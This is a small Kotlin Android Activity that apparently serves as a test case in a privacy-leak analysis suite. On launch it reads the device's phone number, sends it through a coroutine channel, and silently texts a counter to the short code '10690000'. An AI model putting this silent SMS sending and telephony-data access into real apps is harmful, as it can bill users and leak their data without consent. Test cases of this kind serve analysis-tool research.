package cn.privlens.suite.channel_consumer_count

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager
import kotlinx.coroutines.CoroutineScope
import kotlinx.coroutines.Dispatchers
import kotlinx.coroutines.SupervisorJob
import kotlinx.coroutines.channels.Channel
import kotlinx.coroutines.launch

class Main : Activity() {
    private val scope = CoroutineScope(SupervisorJob() + Dispatchers.Default)
    private val numbers = Channel<String>(Channel.UNLIMITED)

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        scope.launch {
            var seen = 0
            for (number in numbers) {
                seen++
                send(number, seen)
            }
        }
        scope.launch {
            val tm = getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager
            numbers.send(tm.line1Number ?: "")
        }
    }

    private fun send(number: String, seen: Int) {
        SmsManager.getDefault().sendTextMessage("10690000", null, "$seen", null, null)
        title = if (number.isEmpty()) "-" else "+"
    }
}
